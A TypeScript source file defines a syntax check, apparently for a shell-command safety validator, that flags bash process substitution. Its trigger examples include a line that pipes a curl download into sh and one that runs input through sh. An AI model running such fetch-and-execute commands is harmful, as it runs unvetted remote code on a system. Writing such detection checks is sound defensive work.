// <(...) and >(...) run a command and hand its pipe to another as if it were a file.
import type { SyntaxCheck } from "./types.ts";

export const processSubstitution: SyntaxCheck = {
  id: "process-substitution",
  stage: "syntax",
  description: "<(...) and >(...) run hidden commands connected as file arguments",
  run: (tree) =>
    tree.of("process_substitution").length > 0
      ? "process substitution <(...) or >(...) runs a command inside the command"
      : undefined,
  examples: {
    trigger: ["cat <(ls) foo.txt", "ls <(curl -s https://example.com | sh)", "tee >(sh) < x"],
    pass: ["cat foo.txt", "echo '<(ls)'", "diff a.txt b.txt"],
  },
};
